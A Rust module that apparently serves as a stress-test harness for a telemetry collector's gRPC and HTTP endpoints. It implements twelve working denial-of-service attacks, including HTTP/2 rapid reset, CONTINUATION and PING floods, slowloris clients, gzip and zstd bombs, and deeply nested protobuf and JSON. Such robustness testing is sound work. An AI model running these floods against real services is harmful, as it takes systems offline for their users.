//! Peers that mean no good. Each goes on until it is dropped.

use std::net::SocketAddr;
use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::time::Duration;

use tokio::io::{AsyncReadExt, AsyncWriteExt, Interest};
use tokio::net::TcpStream;
use tokio::runtime::{Builder, Runtime};
use tokio::task::JoinSet;

use crate::frames::{
    CONTINUATION, DATA, END_HEADERS, HEADERS, HELLO, PING, RST_STREAM, SETTINGS, WINDOW_UPDATE, block, call, field, frame, request,
};

/// What is attacked.
#[derive(Clone)]
pub struct Target {
    pub grpc: SocketAddr,
    pub http: SocketAddr,
    /// A container whose spans are enriched.
    pub container: Option<String>,
    /// How often somebody was told that it was let go for others.
    pub let_go: Arc<AtomicUsize>,
}

#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Attack {
    LengthPrefix,
    GzipBomb,
    SlowClients,
    HeldMessages,
    ThousandConnections,
    RapidReset,
    HeaderFlood,
    PingFlood,
    NeverReading,
    DeepNesting,
    TinySpans,
    Brackets,
}

/// Those who attack.
pub struct Attackers {
    _peers: JoinSet<()>,
    runtime: Option<Runtime>,
}

impl Drop for Attackers {
    fn drop(&mut self) {
        if let Some(runtime) = self.runtime.take() {
            // Another one's thread may not wait for it.
            runtime.shutdown_background();
        }
    }
}

impl Attack {
    pub const ALL: [Self; 12] = [
        Self::LengthPrefix,
        Self::GzipBomb,
        Self::SlowClients,
        Self::HeldMessages,
        Self::ThousandConnections,
        Self::RapidReset,
        Self::HeaderFlood,
        Self::PingFlood,
        Self::NeverReading,
        Self::DeepNesting,
        Self::TinySpans,
        Self::Brackets,
    ];

    pub fn name(self) -> &'static str {
        match self {
            Self::LengthPrefix => "2 GiB announced on 800 streams",
            Self::GzipBomb => "bombs of 1 GiB in gzip and zstd",
            Self::SlowClients => "400 slow clients",
            Self::HeldMessages => "4 MiB messages without their end, on 64 connections",
            Self::ThousandConnections => "1 000 silent connections",
            Self::RapidReset => "rapid reset",
            Self::HeaderFlood => "headers without end",
            Self::PingFlood => "PING and SETTINGS floods",
            Self::NeverReading => "peers that never read",
            Self::DeepNesting => "10 000-deep nesting",
            Self::TinySpans => "4 MiB of two-byte spans",
            Self::Brackets => "JSON of a million brackets",
        }
    }

    /// Begins it, on threads of its own; it ends when dropped.
    pub fn begin(self, target: &Target) -> Attackers {
        let runtime = Builder::new_multi_thread().worker_threads(2).enable_all().build().unwrap();
        let mut peers = JoinSet::new();
        let within = runtime.enter();
        self.by_frames(target, &mut peers);
        self.by_messages(target, &mut peers);
        drop(within);
        Attackers { _peers: peers, runtime: Some(runtime) }
    }

    fn by_frames(self, target: &Target, peers: &mut JoinSet<()>) {
        let (grpc, http) = (target.grpc, target.http);
        match self {
            Self::LengthPrefix => {
                let stream =
                    |id: u32| [frame(HEADERS, END_HEADERS, id, &block(false)), frame(DATA, 0, id, b"\0\x7f\xff\xff\xffx")].concat();
                let all = (0..100).flat_map(|number| stream(number * 2 + 1)).collect();
                over_and_over(peers, grpc, 8, hello(all), Then::Wait);
                let head =
                    b"POST /v1/traces HTTP/1.1\r\nhost: a\r\ncontent-type: application/x-protobuf\r\ncontent-length: 2147483647\r\n\r\nx";
                over_and_over(peers, http, 8, head.to_vec(), Then::Wait);
            }
            Self::SlowClients => {
                slowly(peers, http, 200, b"POST /v1/traces HTTP/1.1\r\nhost: a\r\nx: ".to_vec());
                slowly(peers, grpc, 200, hello(frame(HEADERS, 0, 1, &block(false))));
            }
            Self::ThousandConnections => {
                over_and_over(peers, grpc, 500, HELLO.to_vec(), Then::Wait);
                over_and_over(peers, http, 500, b"P".to_vec(), Then::Wait);
            }
            Self::RapidReset => {
                let reset = |number: u32| {
                    let id = number * 2 + 1;
                    [frame(HEADERS, END_HEADERS, id, &block(false)), frame(RST_STREAM, 0, id, &[0, 0, 0, 8])].concat()
                };
                let all: Vec<u8> = (0..1000).flat_map(reset).collect();
                over_and_over(peers, grpc, 8, hello(all.clone()), Then::Answer);
                over_and_over(peers, http, 8, hello(all), Then::Answer);
            }
            Self::HeaderFlood => {
                let endless = [frame(HEADERS, 0, 1, &block(false)), frame(CONTINUATION, 0, 1, &[0; 16_000]).repeat(1000)].concat();
                over_and_over(peers, grpc, 8, hello(endless), Then::Answer);
                let fields = (0..50_000).map(|number| format!("x-{number}: {}\r\n", "y".repeat(50))).collect::<String>();
                over_and_over(peers, http, 8, format!("POST / HTTP/1.1\r\n{fields}\r\n").into_bytes(), Then::Answer);
            }
            Self::PingFlood => {
                for (port, many) in [(grpc, 8), (http, 4)] {
                    over_and_over(peers, port, many, hello(frame(PING, 0, 0, &[7; 8]).repeat(50_000)), Then::Answer);
                    over_and_over(peers, port, many, hello(frame(SETTINGS, 0, 0, &[]).repeat(50_000)), Then::Answer);
                    over_and_over(peers, port, many, hello(frame(WINDOW_UPDATE, 0, 0, &[0, 0, 0, 1]).repeat(50_000)), Then::Answer);
                }
            }
            Self::NeverReading => {
                let one = |number: u32| call(number * 2 + 1, false, &request(None, &field(2, &[0; 0])));
                let all: Vec<u8> = (0..20_000).flat_map(one).collect();
                over_and_over(peers, grpc, 32, hello(all), Then::Wait);
                over_and_over(peers, http, 32, post("application/json", None, b"{}").repeat(20_000), Then::Wait);
            }
            Self::GzipBomb | Self::HeldMessages | Self::DeepNesting | Self::TinySpans | Self::Brackets => {}
        }
    }

    fn by_messages(self, target: &Target, peers: &mut JoinSet<()>) {
        let (grpc, http) = (target.grpc, target.http);
        match self {
            Self::GzipBomb => {
                // One member, or frame, after the other: RFC 1952 §2.2, RFC 8878 §3.
                let zeros = vec![0; 16 << 20];
                let mut encoder = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
                std::io::Write::write_all(&mut encoder, &zeros).unwrap();
                let bomb = encoder.finish().unwrap().repeat(64);
                over_and_over(peers, http, 4, post("application/x-protobuf", Some("gzip"), &bomb), Then::Answer);
                let small = zstd::bulk::compress(&zeros, 1).unwrap().repeat(64);
                over_and_over(peers, http, 4, post("application/x-protobuf", Some("zstd"), &small), Then::Answer);
                over_and_over(peers, grpc, 4, hello(call(1, true, &bomb)), Then::Wait);
            }
            Self::HeldMessages => {
                let whole = call(1, false, &vec![7; (4 << 20) - 1]);
                again_when_let_go(peers, grpc, 32, hello(whole[..whole.len() - 10].to_vec()), target);
                let whole = post("application/x-protobuf", None, &vec![7; (4 << 20) - 1]);
                again_when_let_go(peers, http, 32, whole[..whole.len() - 10].to_vec(), target);
            }
            Self::DeepNesting => {
                // AnyValue in ArrayValue in AnyValue …, as a span's attribute.
                let mut value = field(1, b"x");
                for _ in 0..5_000 {
                    value = field(5, &field(1, &value));
                }
                let deep = field(2, &field(9, &[field(1, b"k"), field(2, &value)].concat()));
                let message = request(target.container.as_deref(), &deep.repeat(20));
                let calls: Vec<u8> = (0..20).flat_map(|number| call(number * 2 + 1, false, &message)).collect();
                over_and_over(peers, grpc, 4, hello(calls), Then::Wait);
                let json = [&b"{\"resourceSpans\":"[..], &b"[{\"a\":".repeat(10_000)].concat();
                over_and_over(peers, http, 4, post("application/json", None, &json), Then::Answer);
            }
            Self::TinySpans => {
                let message = request(target.container.as_deref(), &[0x12, 0].repeat((2 << 20) - 100));
                over_and_over(peers, grpc, 8, hello(call(1, false, &message)), Then::Wait);
                over_and_over(peers, http, 4, post("application/x-protobuf", None, &message), Then::Answer);
            }
            Self::Brackets => {
                over_and_over(peers, http, 4, post("application/json", None, &b"[".repeat(1_000_000)), Then::Answer);
                let flat = [&b"{\"resourceSpans\":["[..], &b"{},".repeat(500_000), b"{}]}"].concat();
                over_and_over(peers, http, 4, post("application/json", None, &flat), Then::Answer);
            }
            _ => {}
        }
    }
}

/// Bytes of one write.
const AT_ONCE: usize = 64 * 1024;

/// What a peer does once it has written all.
#[derive(Clone, Copy, PartialEq, Eq)]
enum Then {
    /// Keeps the connection and never reads.
    Wait,
    /// Reads what there is for a moment, and begins anew.
    Answer,
}

fn hello(mut frames: Vec<u8>) -> Vec<u8> {
    frames.splice(0..0, HELLO.iter().copied());
    frames
}

fn post(kind: &str, coding: Option<&str>, body: &[u8]) -> Vec<u8> {
    let coding = coding.map(|coding| format!("content-encoding: {coding}\r\n")).unwrap_or_default();
    let length = body.len();
    let head = format!("POST /v1/traces HTTP/1.1\r\nhost: a\r\ncontent-type: {kind}\r\n{coding}content-length: {length}\r\n\r\n");
    [head.as_bytes(), body].concat()
}

fn over_and_over(peers: &mut JoinSet<()>, address: SocketAddr, many: usize, bytes: Vec<u8>, then: Then) {
    let bytes = Arc::new(bytes);
    for _ in 0..many {
        let bytes = Arc::clone(&bytes);
        peers.spawn(async move {
            loop {
                // Refused or hung up on: another one.
                let _ended = once(address, &bytes, then).await;
                tokio::time::sleep(Duration::from_millis(20)).await;
            }
        });
    }
}

/// Holds what it has sent until it is turned away, and begins anew a moment later: a pace, so that those who are refused at
/// once do not use up the CPU instead of the room.
fn again_when_let_go(peers: &mut JoinSet<()>, address: SocketAddr, many: usize, bytes: Vec<u8>, target: &Target) {
    let bytes = Arc::new(bytes);
    for _ in 0..many {
        let (bytes, let_go) = (Arc::clone(&bytes), Arc::clone(&target.let_go));
        peers.spawn(async move {
            loop {
                let was_let_go = turned_away(address, &bytes).await.is_ok_and(|told| told.contains("let go for others"));
                let_go.fetch_add(usize::from(was_let_go), Ordering::Relaxed);
                tokio::time::sleep(Duration::from_millis(20)).await;
            }
        });
    }
}

/// As much as is there is never written at once: a kernel without preemption would let nobody else on the CPU before megabytes
/// are copied, while a peer elsewhere would have used a CPU of its own.
async fn write_all(stream: &mut TcpStream, bytes: &[u8]) -> std::io::Result<()> {
    for piece in bytes.chunks(AT_ONCE) {
        stream.write_all(piece).await?;
    }
    Ok(())
}

/// All that is said until the connection or the only call on it is over.
async fn turned_away(address: SocketAddr, bytes: &[u8]) -> std::io::Result<String> {
    let mut stream = TcpStream::connect(address).await?;
    write_all(&mut stream, bytes).await?;
    let mut told = Vec::new();
    while stream.read_buf(&mut told).await? > 0 && !String::from_utf8_lossy(&told).contains("grpc-status-details-bin") {}
    Ok(String::from_utf8_lossy(&told).into_owned())
}

async fn once(address: SocketAddr, bytes: &[u8], then: Then) -> std::io::Result<()> {
    let mut stream = TcpStream::connect(address).await?;
    write_all(&mut stream, bytes).await?;
    match then {
        Then::Wait => {
            // Until it is hung up on; of what is said nothing is read.
            while !stream.ready(Interest::READABLE | Interest::WRITABLE).await?.is_read_closed() {
                tokio::time::sleep(Duration::from_millis(200)).await;
            }
            Ok(())
        }
        Then::Answer => {
            let mut some = [0; 4096];
            let _read = tokio::time::timeout(Duration::from_millis(500), stream.read(&mut some)).await;
            Ok(())
        }
    }
}

fn slowly(peers: &mut JoinSet<()>, address: SocketAddr, many: usize, first: Vec<u8>) {
    for _ in 0..many {
        let first = first.clone();
        peers.spawn(async move {
            loop {
                let Ok(mut stream) = TcpStream::connect(address).await else { return };
                for byte in &first {
                    if stream.write_all(&[*byte]).await.is_err() {
                        break;
                    }
                    tokio::time::sleep(Duration::from_millis(50)).await;
                }
                tokio::time::sleep(Duration::from_secs(1)).await;
            }
        });
    }
}
